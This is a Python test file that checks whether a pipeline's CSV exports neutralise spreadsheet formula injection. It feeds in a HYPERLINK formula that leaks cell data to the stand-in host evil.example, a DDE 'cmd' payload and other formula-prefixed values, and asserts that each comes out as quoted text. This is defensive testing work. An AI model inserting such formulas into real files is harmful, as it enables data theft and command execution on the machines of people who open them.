"""Formulas in the CSV exports: a value, quote, correction, reviewer name or note that a spreadsheet would run
(``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``, ``@SUM``, ``+…``, ``-…``) opens as text in every CSV the pipeline writes —
a leading ``'``, as OWASP recommends — while numbers stay numbers and the other formats keep the exact value."""

from __future__ import annotations

import csv
import json
import re

import polars as pl

from atlas_pipeline.review.decisions import DecisionRequest, decide
from atlas_pipeline_tests.support.juice_trial import CORRECT

LINK = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
CALC = "=cmd|' /C calc'!A0"
PLAIN_NUMBER = re.compile(r"^[+-]?(?:\d+(?:[.,]\d+)*|\.\d+)(?:[eE][+-]?\d+)?%?$")


def test_every_csv_opens_formulas_as_text_and_keeps_numbers(run, llm_server, instance, tmp_path):
    hostile = {**CORRECT, "funding_source": {"value": LINK, "quote": None}}
    llm_server.script({"content": json.dumps(hostile)})
    result, record = run()
    assert result.success and record.fields["funding_source"]["value"] == LINK
    shown = (record.sha256, record.extraction_version)
    store = run.atlas.store()
    decide(
        store,
        record,
        DecisionRequest(
            "n_control",
            "correct",
            reviewer="@SUM(1+1)*cmd|' /C calc'!A0",
            shown=shown,
            value=45,
            quote="+thirty",
            note=CALC,
        ),
    )
    decide(
        store,
        record,
        DecisionRequest("funding_source", "correct", reviewer="ana", shown=shown, value="-2+3+cmd|' /C calc'!A0"),
    )
    assert (
        run.defs.resolve_job_def("review_job").execute_in_process(partition_key=record.key, instance=instance).success
    )
    assert run.defs.resolve_job_def("aggregates_job").execute_in_process(instance=instance).success
    exports = tmp_path / "exports"
    files = sorted(exports.glob("*.csv"))
    assert len(files) >= 5
    seen = set()
    for path in files:
        with path.open(newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                        assert PLAIN_NUMBER.match(cell), (path.name, cell)  # a number written as text
                    seen.update(text for text in (LINK, CALC, "+thirty") if cell == "'" + text)
    assert seen == {LINK, CALC, "+thirty"}
    fields = pl.read_csv(exports / "atlas_fields.csv", infer_schema=False)
    funding = fields.filter(pl.col("field") == "funding_source")
    assert funding["model_value"][0] == "'" + LINK
    # the exact value where no spreadsheet runs it: parquet and jsonl
    assert (
        pl.read_parquet(exports / "atlas_fields.parquet").filter(pl.col("field") == "funding_source")["model_value"][0]
        == LINK
    )
